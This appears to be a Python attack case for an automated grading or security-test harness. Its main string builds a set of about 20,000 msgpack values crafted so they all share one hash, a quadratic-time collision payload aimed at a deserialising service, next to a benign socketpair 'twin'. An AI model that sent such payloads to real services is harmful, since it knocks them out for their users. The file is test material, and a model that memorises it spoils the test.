"""A set of numbers that all have the same hash: to build it takes the square of their number."""

from autograde.attacks import ON_THE_WIRE, Attack, Work

DOUBLE = """
def double(x):
    pack = msgpack.packb
    items = [msgpack.ExtType(3, struct.pack("!dd", -1000003.0 * n, float(n))) for n in range(1, 20_000)]
    say(frame({"value": msgpack.ExtType(2, pack(items))}))
    time.sleep(60)
"""

TWIN_OWN = """
import socket
import struct

import msgpack

one, two = socket.socketpair()
one.sendall(struct.pack("!I", 3) + msgpack.packb([1, 2]))
print(len(two.recv(100)))
one.close()
two.close()
"""

attack = Attack(
    Work(own=ON_THE_WIRE, double=DOUBLE), twin=Work(own=TWIN_OWN), outcome="tampering", suspected=True
)
